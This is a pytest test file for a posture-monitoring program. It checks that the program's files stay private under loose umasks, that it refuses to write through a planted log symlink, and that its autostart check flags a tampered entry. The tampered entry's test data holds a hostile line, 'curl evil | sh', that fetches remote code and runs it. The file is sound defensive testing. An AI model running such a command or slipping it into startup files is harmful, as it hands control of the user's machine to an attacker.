"""Everything posturewatch keeps is this user's alone, whatever the umask: a fresh home
under umask 000 and 022, every command that writes something of its own run for real
(the model brought over, a calibration, a stored recording, the config, a report, the
autostart entry, the monitor with its store, log and control files), then every file
under the home is 0600 and every folder made 0700. Under 000 the data folder, config,
baseline, log, cache and autostart entry were world-writable; under 022 the store,
baseline and log world-readable. Also: an autostart entry someone else rewrote is told
apart from ours, and a link planted at the log's name is not written through."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import FRONTAL, MODELS, labelled, real_inputs, write_clip
from desktop_session import poll


def environment(home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("XDG_") and k not in ("DISPLAY", "WAYLAND_DISPLAY",
                                                     "POSTUREWATCH_MODEL_DIR")}
    env.update(HOME=str(home), XDG_RUNTIME_DIR=str(home / "run"),
               XDG_CONFIG_HOME=str(home / ".config"), EDITOR="true", VISUAL="")
    return env


def posturewatch(home: Path, umask: int, *args: str | Path,
                 **kwargs: object) -> subprocess.CompletedProcess[str]:
    result = subprocess.run([sys.executable, "-m", "posturewatch", *map(str, args)],
                            capture_output=True, text=True, env=environment(home),
                            umask=umask, timeout=240, **kwargs)  # type: ignore[call-overload]
    assert result.returncode == 0, result.stderr
    return result


def not_private(home: Path) -> list[str]:
    """Whatever under ``home`` others could read or write: files not 0600, folders not
    0700 (a socket is a file here too)."""
    found = []
    for folder, dirs, files in os.walk(home):
        for name in [*dirs, *files]:
            path = Path(folder, name)
            info = path.lstat()
            want = 0o700 if stat.S_ISDIR(info.st_mode) else 0o600
            if stat.S_IMODE(info.st_mode) != want:
                found.append(f"{path.relative_to(home)} {stat.S_IMODE(info.st_mode):o}")
    return found


@real_inputs
@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_every_file_the_program_keeps_is_private(
    tmp_path: Path, pools: dict, model: Path, umask: int
) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    clip = write_clip(tmp_path / "sitting.mp4", [(pools["upright"], 3)], fps=5)  # run ends with it
    photos = tmp_path / "photos"
    photos.mkdir()
    for path in [p for p, label in labelled(FRONTAL) if label == "upright"][:5]:
        shutil.copy(path, photos / path.name)

    posturewatch(home, umask, "model", "fetch", MODELS / model.name)
    posturewatch(home, umask, "calibrate", "--source", photos)
    posturewatch(home, umask, "analyze", clip, "--store")
    posturewatch(home, umask, "config", "edit")
    posturewatch(home, umask, "report")
    posturewatch(home, umask, "autostart", "enable")
    # a link planted at the log's name, to a file of the victim's
    log = home / ".local" / "state" / "posturewatch" / "log"
    for folder in reversed([log, *log.parents]):
        if home in folder.parents:
            folder.mkdir(mode=0o700, exist_ok=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n")
    (log / "monitor.log").symlink_to(victim)

    # a look every 2 s: the recording ends at the first look after its last frame (15 s
    # later with the default); the file is outside the home, which is what is checked
    quick = tmp_path / "quick.toml"
    quick.write_text("[camera]\nlook_every_s = 2.0\n")
    monitor = subprocess.Popen([sys.executable, "-m", "posturewatch", "run", "--headless",
                                "--source", clip, "--config", quick],
                               env=environment(home), umask=umask,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        runtime = home / "run" / "posturewatch"
        poll(lambda: (runtime / "control.key").exists(), 60, "the control channel")
        running = not_private(home)  # the lock, its pid, the socket and its key too
        assert {p.name for p in runtime.iterdir()} >= {"control.sock", "control.key",
                                                       "monitor.lock", "monitor.pid"}
        _, err = monitor.communicate(timeout=60)  # ends with the recording
    finally:
        if monitor.poll() is None:
            monitor.kill()
    assert monitor.returncode == 0, err
    assert running == []
    assert not_private(home) == []
    assert victim.read_text() == "mine\n"
    assert (log / "monitor.log").is_file() and not (log / "monitor.log").is_symlink()
    assert "monitor starting" in (log / "monitor.log").read_text()
    kept = {p.name for p in home.rglob("*")}
    assert {"history.sqlite3", "baseline.json", "config.toml", "monitor.log",
            "posturewatch.desktop", model.name} <= kept


def test_autostart_status_tells_an_entry_someone_changed(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    posturewatch(home, 0o022, "autostart", "enable")
    entry = home / ".config" / "autostart" / "posturewatch.desktop"
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600
    assert posturewatch(home, 0o022, "autostart", "status").stdout.startswith("autostart on")

    entry.chmod(0o666)
    loose = subprocess.run([sys.executable, "-m", "posturewatch", "autostart", "status"],
                           capture_output=True, text=True, env=environment(home))
    assert loose.returncode == 1 and "others may rewrite it (mode 666)" in loose.stdout

    entry.chmod(0o600)
    text = entry.read_text()
    exec_line = next(line for line in text.splitlines() if line.startswith("Exec="))
    entry.write_text(text.replace(exec_line, "Exec=sh -c 'curl evil | sh'"))
    changed = subprocess.run([sys.executable, "-m", "posturewatch", "autostart", "status",
                              "--json"], capture_output=True, text=True, env=environment(home))
    assert changed.returncode == 1
    assert "Exec=sh -c 'curl evil | sh'" in changed.stdout and '"enabled": true' in changed.stdout
    posturewatch(home, 0o022, "autostart", "enable")  # ours again
    assert posturewatch(home, 0o022, "autostart", "status").stdout.startswith("autostart on")
